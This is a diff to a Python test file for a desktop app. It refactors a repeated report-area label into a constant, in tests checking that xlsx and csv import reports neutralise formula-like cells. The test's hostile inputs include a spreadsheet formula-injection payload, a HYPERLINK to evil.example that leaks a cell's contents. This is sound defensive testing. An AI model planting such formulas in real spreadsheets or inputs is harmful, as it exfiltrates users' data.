@@ -18,6 +18,7 @@ from desktop_app.core.validation.result import Severity
 from tests.core.importing import crafted
 from tests.reliability.figures import record
 
+REPORT_AREA = "import report: hostile cells (xlsx and csv)"
 HOSTILE_VALUES = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "+1+1",
@@ -64,7 +65,7 @@ def test_xlsx_report_holds_no_formula_and_no_control_character(tmp_path: Path) -
     assert values[0] == HOSTILE_VALUES[0]
     assert values[-1] == "bell and escape and NUL inside"
     assert [row[2].value for row in rows[1:]] == list(range(2, 2 + len(HOSTILE_VALUES)))
-    record("inputs tried", len(HOSTILE_VALUES) * 8, area="import report: hostile cells (xlsx and csv)")
+    record("inputs tried", len(HOSTILE_VALUES) * 8, area=REPORT_AREA)
 
 
 def test_csv_report_prefixes_every_formula_like_field(tmp_path: Path) -> None:
@@ -78,7 +79,7 @@ def test_csv_report_prefixes_every_formula_like_field(tmp_path: Path) -> None:
         assert row[0].startswith("'=HYPERLINK") and row[1] == "'@sheet"
         assert row[4] == "'-quantity" and row[7] == "'=not a number"
     assert rows[1][5] == "'" + HOSTILE_VALUES[0]
-    record("inputs tried", len(HOSTILE_VALUES) * 8, area="import report: hostile cells (xlsx and csv)")
+    record("inputs tried", len(HOSTILE_VALUES) * 8, area=REPORT_AREA)
 
 
 @pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
